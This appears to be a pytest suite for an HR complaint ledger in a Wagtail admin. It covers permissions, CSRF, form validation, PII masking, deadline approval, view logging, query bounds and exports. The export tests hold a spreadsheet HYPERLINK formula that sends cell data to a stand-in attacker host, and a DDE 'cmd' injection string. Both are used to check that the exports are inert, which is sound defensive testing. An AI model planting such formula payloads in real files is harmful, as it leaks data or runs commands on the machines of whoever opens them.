"""HR's complaint ledger in the Wagtail admin: who may reach what, the forms
through the services, the actions, the view log, listing cost and exports."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.functional import lazy
from openpyxl import load_workbook

from incentives import services
from incentives.models import Complaint, ComplaintViewLog
from incentives.resources import ERROR_UNKNOWN_EMPLOYEE
from tests import factories
from tests.incentives.conftest import snapshot

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.fixture
def complaint(make_complaint, learner):
    return make_complaint(
        reference_no="TS-A1",
        responsible_staff=learner,
        summary="客户手机13812345678反映柜员态度生硬",
    )


def complaint_urls(pk) -> dict[str, str]:
    return {
        "index": reverse("complaints:index"),
        "index_results": reverse("complaints:index_results"),
        "index_overdue": reverse("complaints:index") + "?overdue=true",
        "export_csv": reverse("complaints:index") + "?export=csv",
        "export_xlsx": reverse("complaints:index") + "?export=xlsx",
        "add": reverse("complaints:add"),
        "edit": reverse("complaints:edit", args=[pk]),
        "inspect": reverse("complaints:inspect", args=[pk]),
        "history": reverse("complaints:history", args=[pk]),
        "history_results": reverse("complaints:history_results", args=[pk]),
        "usage": reverse("complaints:usage", args=[pk]),
        "delete": reverse("complaints:delete", args=[pk]),
        "extend": reverse("complaints:extend", args=[pk]),
        "approve_deadline": reverse("complaints:approve_deadline", args=[pk]),
    }


# --- permissions ---------------------------------------------------------------------


@pytest.mark.parametrize("role", ["anonymous", "learner", "manager"])
def test_people_without_admin_access_never_reach_complaints(
    role_clients, complaint, role
):
    for name, url in complaint_urls(complaint.pk).items():
        response = role_clients[role].get(url)
        assert response.status_code == 302, name
        assert response["Location"].startswith(reverse("login")), name
    assert not ComplaintViewLog.objects.exists()


def test_a_trainer_gets_403_on_every_complaint_url(role_clients, complaint):
    for name, url in complaint_urls(complaint.pk).items():
        assert role_clients["trainer"].get(url).status_code == 403, name
    for name in ("add", "edit", "extend", "approve_deadline", "delete"):
        url = complaint_urls(complaint.pk)[name]
        assert role_clients["trainer"].post(url, {}).status_code == 403, name
    assert not ComplaintViewLog.objects.exists()
    assert Complaint.objects.get(pk=complaint.pk).extended_at is None


@pytest.mark.parametrize("role", ["hr", "admin"])
def test_hr_and_admin_reach_every_complaint_url_but_delete(
    role_clients, complaint, make_complaint, hr, role
):
    extended = make_complaint()
    services.complaint_extend(complaint=extended, reason="情况复杂", by=hr.user)
    urls = complaint_urls(complaint.pk)
    urls["approve_deadline"] = complaint_urls(extended.pk)["approve_deadline"]
    for name, url in urls.items():
        expected = 403 if name == "delete" else 200
        assert role_clients[role].get(url).status_code == expected, name
    assert role_clients[role].post(urls["delete"]).status_code == 403
    assert Complaint.objects.filter(pk=complaint.pk).exists()


def test_only_hr_and_admin_may_import_complaints(role_clients):
    """The import screen is core's: Wagtail's usual redirect for a trainer."""
    url = reverse("core_imports:upload", args=["complaints"])
    for role in ("anonymous", "learner", "manager"):
        response = role_clients[role].get(url)
        assert response["Location"].startswith(reverse("login")), role
    response = role_clients["trainer"].get(url)
    assert (response.status_code, response["Location"]) == (
        302,
        reverse("wagtailadmin_home"),
    )
    for role in ("hr", "admin"):
        assert role_clients[role].get(url).status_code == 200, role


def test_unknown_complaints_give_404(role_clients, complaint):
    missing = complaint.pk + 1000
    for name in ("edit", "inspect", "extend", "approve_deadline"):
        url = complaint_urls(missing)[name]
        assert role_clients["hr"].get(url).status_code == 404, name


def test_trainer_and_manager_see_no_complaints_menu(role_clients):
    response = role_clients["trainer"].get(reverse("wagtailadmin_home"))
    assert response.status_code == 200
    assert reverse("complaints:index") not in response.content.decode()
    response = role_clients["hr"].get(reverse("wagtailadmin_home"))
    assert reverse("complaints:index") in response.content.decode()


def test_posts_need_a_csrf_token(hr, bank, complaint):
    client = Client(enforce_csrf_checks=True)
    client.force_login(hr.user)
    before = snapshot()
    posts = {
        "add": form_data(bank),
        "edit": form_data(bank, reference_no="TS-A1", summary="改"),
        "extend": {"reason": "情况复杂"},
        "approve_deadline": {"deadline_at": "2026-12-01 10:00", "note": "同意"},
    }
    urls = complaint_urls(complaint.pk)
    for name, data in posts.items():
        assert client.post(urls[name], data).status_code == 403, name
    assert snapshot() == before


# --- forms go through the services ---------------------------------------------------


def form_data(bank, **overrides) -> dict:
    data = {
        "reference_no": "TS-NEW",
        "received_at": "2026-10-03 09:12",
        "channel": "visit",
        "category": "理财产品",
        "department": bank.o1.pk,
        "responsible_employee_no": "",
        "handler_employee_no": "",
        "status": "open",
        "resolved_at": "",
        "outcome": "",
        "customer_satisfied": "unknown",
        "topic": "financial_knowledge",
        "law_article": "消费者权益保护法第二十条",
        "summary": "客户身份证110101199003071234，卡号6222021234561234。",
    }
    data.update(overrides)
    return data


def test_hr_creates_a_complaint_masked_with_its_deadline(as_hr, bank, learner, hr):
    response = as_hr.post(
        reverse("complaints:add"),
        form_data(bank, responsible_employee_no="L001", handler_employee_no="H001"),
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    complaint = Complaint.objects.get(reference_no="TS-NEW")
    assert complaint.summary == "客户身份证110101********1234，卡号6222********1234。"
    assert complaint.deadline_at == complaint.received_at + dt.timedelta(days=15)
    assert (complaint.responsible_staff, complaint.handler) == (learner, hr)
    assert complaint.topic == "financial_knowledge"
    assert complaint.customer_satisfied is None


@pytest.mark.parametrize(
    "overrides, field, message",
    [
        (
            {"responsible_employee_no": "L999"},
            "responsible_employee_no",
            lazy(lambda: str(ERROR_UNKNOWN_EMPLOYEE) % {"number": "L999"}, str)(),
        ),
        (
            {"outcome": "upheld"},
            "outcome",
            (services.ERROR_OUTCOME_WITHOUT_RESOLUTION),
        ),
        (
            {
                "status": "closed",
                "resolved_at": "2026-10-02 09:00",
                "outcome": "upheld",
            },
            "resolved_at",
            (services.ERROR_RESOLVED_BEFORE_RECEIVED),
        ),
        (
            {"staff_at_fault": "on"},
            "staff_at_fault",
            (services.ERROR_FAULT_WITHOUT_STAFF),
        ),
        (
            {"reference_no": "TS-A1"},
            "reference_no",
            (services.ERROR_REFERENCE_TAKEN),
        ),
    ],
)
def test_bad_input_in_the_admin_form_is_refused(
    as_hr, bank, complaint, overrides, field, message
):
    before = snapshot()
    response = as_hr.post(reverse("complaints:add"), form_data(bank, **overrides))
    assert response.status_code == 200
    form = response.context["form"]
    with translation.override("zh-hans"):  # the admin's language
        assert str(message) in form.errors[field]
    assert snapshot() == before


def test_hr_closes_a_complaint_through_the_edit_form(as_hr, bank, complaint):
    response = as_hr.post(
        reverse("complaints:edit", args=[complaint.pk]),
        form_data(
            bank,
            reference_no="CHANGED",  # disabled on edit: ignored
            received_at=timezone.localtime(complaint.received_at).strftime(
                "%Y-%m-%d %H:%M"
            ),
            responsible_employee_no="L001",
            status="closed",
            resolved_at=timezone.localtime().strftime("%Y-%m-%d %H:%M"),
            outcome="upheld",
            staff_at_fault="on",
            customer_satisfied="false",
            summary="客户座机0571-88886666",
        ),
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    complaint.refresh_from_db()
    assert complaint.reference_no == "TS-A1"
    assert (complaint.status, complaint.outcome, complaint.staff_at_fault) == (
        "closed",
        "upheld",
        True,
    )
    assert complaint.customer_satisfied is False
    assert complaint.summary == "客户座机0571-****6666"


# --- extension and approval ----------------------------------------------------------


def test_hr_extends_a_deadline_once_with_a_reason(as_hr, hr, complaint):
    url = reverse("complaints:extend", args=[complaint.pk])
    response = as_hr.post(url, {"reason": ""})
    assert response.status_code == 200
    assert response.context["form"].errors["reason"]

    response = as_hr.post(url, {"reason": "需调取监控录像"})
    assert response.status_code == 302
    complaint.refresh_from_db()
    assert complaint.deadline_at == complaint.received_at + dt.timedelta(days=30)
    assert (complaint.extension_reason, complaint.extended_by) == (
        "需调取监控录像",
        hr.user,
    )

    before = snapshot()
    response = as_hr.post(url, {"reason": "再延一次"})
    assert response.status_code == 200
    assert (
        str(services.ERROR_ALREADY_EXTENDED)
        in response.context["form"].non_field_errors()
    )
    assert snapshot() == before
    response = as_hr.get(url)
    assert response.status_code == 302  # nothing left to extend


def test_hr_records_the_approval_of_a_longer_deadline(as_hr, hr, complaint):
    url = reverse("complaints:approve_deadline", args=[complaint.pk])
    assert as_hr.get(url).status_code == 302  # extend first
    services.complaint_extend(complaint=complaint, reason="情况复杂", by=hr.user)
    deadline = timezone.localtime(complaint.received_at) + dt.timedelta(days=45)
    data = {
        "deadline_at": deadline.strftime("%Y-%m-%d %H:%M"),
        "reference": "SP-01",
        "note": "",
    }

    before = snapshot()
    response = as_hr.post(url, data)
    assert response.status_code == 200
    assert response.context["form"].errors["note"]
    assert snapshot() == before

    response = as_hr.post(url, {**data, "note": "经总行消保部负责人审批"})
    assert response.status_code == 302
    complaint.refresh_from_db()
    assert complaint.deadline_at == deadline
    assert (complaint.approval_reference, complaint.approved_by) == ("SP-01", hr.user)


def test_an_approved_deadline_beyond_60_days_is_refused(as_hr, hr, complaint):
    services.complaint_extend(complaint=complaint, reason="情况复杂", by=hr.user)
    deadline = timezone.localtime(complaint.received_at) + dt.timedelta(days=61)
    before = snapshot()
    response = as_hr.post(
        reverse("complaints:approve_deadline", args=[complaint.pk]),
        {"deadline_at": deadline.strftime("%Y-%m-%d %H:%M"), "note": "同意"},
    )
    assert response.status_code == 200
    assert response.context["form"].errors["__all__"]
    assert snapshot() == before


# --- the view log --------------------------------------------------------------------


def test_every_view_of_the_detail_is_logged_and_shown_to_hr(
    as_hr, as_admin, hr, admin, complaint
):
    url = reverse("complaints:inspect", args=[complaint.pk])
    as_hr.get(url)
    as_admin.get(url)
    response = as_hr.get(url)

    entries = list(ComplaintViewLog.objects.order_by("pk"))
    assert [e.user for e in entries] == [hr.user, admin.user, hr.user]
    assert all(e.complaint == complaint for e in entries)
    page = response.content.decode()
    assert "138****5678" in page and "13812345678" not in page
    assert page.count(str(hr)) >= 2  # listed in the log, newest first
    assert str(admin) in page


def test_opening_the_edit_form_is_logged_too(as_hr, hr, complaint):
    as_hr.get(reverse("complaints:edit", args=[complaint.pk]))
    assert list(ComplaintViewLog.objects.values_list("user", flat=True)) == [hr.user.pk]


def test_the_log_is_hidden_from_someone_without_the_log_permission(bank, complaint):
    from django.contrib.auth.models import Permission

    viewer = factories.staff(department=bank.hr_dept, employee_no="V001")
    viewer.user.user_permissions.add(
        Permission.objects.get(codename="access_admin"),
        Permission.objects.get(codename="view_complaint"),
    )
    client = Client()
    client.force_login(viewer.user)
    response = client.get(reverse("complaints:inspect", args=[complaint.pk]))
    assert response.status_code == 200
    assert response.context["can_see_view_log"] is False
    assert "view_log" not in response.context
    assert ComplaintViewLog.objects.filter(user=viewer.user).count() == 1


# --- listing -----------------------------------------------------------------------


def body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _complaints(make_complaint, learner, count: int, start: int = 0) -> None:
    now = timezone.now().replace(microsecond=0)
    for i in range(count):
        make_complaint(
            reference_no=f"TS-L{start + i:04d}",
            received_at=now - dt.timedelta(days=(i * 9) % 25),
            responsible_staff=learner if i % 2 else None,
            handler=learner,
        )


@pytest.mark.parametrize("query", ["", "?overdue=true", "?export=csv", "?export=xlsx"])
def test_listing_queries_are_bounded_and_constant(
    as_hr, make_complaint, learner, django_assert_max_num_queries, query
):
    url = reverse("complaints:index") + query
    _complaints(make_complaint, learner, 3)
    as_hr.get(url)  # warm up caches (content types, permissions)
    with CaptureQueriesContext(connection) as small:
        response = as_hr.get(url)
        body(response)
    _complaints(make_complaint, learner, 30, start=100)
    with django_assert_max_num_queries(25):
        response = as_hr.get(url)
        body(response)
    assert response.status_code == 200
    with CaptureQueriesContext(connection) as large:
        response = as_hr.get(url)
        body(response)
    assert len(large.captured_queries) == len(small.captured_queries)


@pytest.mark.parametrize("name", ["inspect", "edit", "extend", "add", "history"])
def test_detail_pages_are_bounded_whatever_the_view_log(
    as_hr, hr, complaint, django_assert_max_num_queries, name
):
    url = complaint_urls(complaint.pk)[name]
    as_hr.get(url)  # warm up
    with CaptureQueriesContext(connection) as few:
        assert as_hr.get(url).status_code == 200
    for _i in range(40):
        services.complaint_view_log(complaint=complaint, user=hr.user)
    with django_assert_max_num_queries(30):
        assert as_hr.get(url).status_code == 200
    with CaptureQueriesContext(connection) as many:
        as_hr.get(url)
    assert len(many.captured_queries) == len(few.captured_queries)


def test_listing_filters_and_search(as_hr, bank, make_complaint, learner):
    now = timezone.now().replace(microsecond=0)
    make_complaint(reference_no="TS-O1", department=bank.o1, received_at=now)
    make_complaint(
        reference_no="TS-O3",
        department=bank.o3,
        received_at=now - dt.timedelta(days=20),
        channel="regulator",
        summary="监管转办：征信异议",
    )
    make_complaint(
        reference_no="TS-S1",
        department=bank.s1,
        received_at=now - dt.timedelta(days=2),
        status="closed",
        resolved_at=now - dt.timedelta(days=1),
        outcome="upheld",
        topic="credit_reporting",
    )

    def listed(query: str) -> list[str]:
        response = as_hr.get(reverse("complaints:index") + query)
        assert response.status_code == 200
        return sorted(c.reference_no for c in response.context["object_list"])

    assert listed("") == ["TS-O1", "TS-O3", "TS-S1"]
    assert listed(f"?department={bank.s1.pk}") == ["TS-O1", "TS-S1"]
    assert listed("?overdue=true") == ["TS-O3"]
    assert listed("?overdue=false") == ["TS-O1", "TS-S1"]
    assert listed("?channel=regulator") == ["TS-O3"]
    assert listed("?status=closed") == ["TS-S1"]
    assert listed("?outcome=upheld") == ["TS-S1"]
    assert listed("?topic=credit_reporting") == ["TS-S1"]
    yesterday = timezone.localtime(now - dt.timedelta(days=3)).date()
    assert listed(f"?received_at_from={yesterday.isoformat()}") == ["TS-O1", "TS-S1"]
    assert listed("?q=征信") == ["TS-O3"]
    assert listed("?q=TS-S") == ["TS-S1"]


def test_overdue_complaints_are_flagged_in_the_listing(as_hr, make_complaint):
    make_complaint(
        reference_no="TS-LATE", received_at=timezone.now() - dt.timedelta(days=20)
    )
    make_complaint(reference_no="TS-NOW")
    page = as_hr.get(reverse("complaints:index")).content.decode()
    rows = {
        ref: row
        for row in page.split("<tr")
        for ref in ("TS-LATE", "TS-NOW")
        if ref in row
    }
    assert "w-status--primary" in rows["TS-LATE"]
    assert "w-status--primary" not in rows["TS-NOW"]


def test_hr_imports_complaints_through_the_admin_screens(
    as_hr, bank, learner, django_capture_on_commit_callbacks
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from core.models import Job

    data = (
        "投诉编号,受理时间,渠道,部门编码,责任人工号,状态,摘要\n"
        "TS-UP1,2026-10-03 09:12,电话,O1,L001,处理中,客户手机13812345678\n"
    ).encode("gb18030")
    with django_capture_on_commit_callbacks(execute=True):
        response = as_hr.post(
            reverse("core_imports:upload", args=["complaints"]),
            {"file": SimpleUploadedFile("投诉.csv", data, "text/csv")},
        )
    assert response.status_code == 302
    preview = Job.objects.get()
    assert preview.report["new"] == 1 and not Complaint.objects.exists()
    with django_capture_on_commit_callbacks(execute=True):
        response = as_hr.post(reverse("core_imports:confirm", args=[preview.pk]))
    assert response.status_code == 302
    complaint = Complaint.objects.get(reference_no="TS-UP1")
    assert complaint.summary == "客户手机138****5678"
    assert complaint.responsible_staff == learner


# --- admin exports -----------------------------------------------------------------


@pytest.fixture
def formula_complaint(make_complaint, learner):
    return make_complaint(
        reference_no="TS-F1", summary=HYPERLINK, responsible_staff=learner
    )


def test_admin_csv_export_is_inert(as_hr, formula_complaint, make_complaint):
    make_complaint(reference_no="TS-F2", summary="+cmd|' /C calc'!A0")
    response = as_hr.get(reverse("complaints:index") + "?export=csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    header, body = rows[0], rows[1:]
    summary = header.index("Summary") if "Summary" in header else header.index("摘要")
    cells = {row[0]: row[summary] for row in body}
    assert cells["TS-F1"] == "'" + HYPERLINK
    assert cells["TS-F2"] == "'+cmd|' /C calc'!A0"
    received = body[0][1]
    assert received == timezone.localtime(
        Complaint.objects.get(reference_no=body[0][0]).received_at
    ).strftime("%Y-%m-%d %H:%M")


def test_admin_xlsx_export_is_inert(as_hr, formula_complaint):
    response = as_hr.get(reverse("complaints:index") + "?export=xlsx")
    data = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    header = [c.value for c in sheet[1]]
    summary = header.index("Summary") if "Summary" in header else header.index("摘要")
    row = next(sheet.iter_rows(min_row=2))
    assert row[summary].value == HYPERLINK
    assert row[summary].data_type == "s"
    assert row[summary].quotePrefix is True
    assert isinstance(row[1].value, dt.datetime)  # dates stay dates
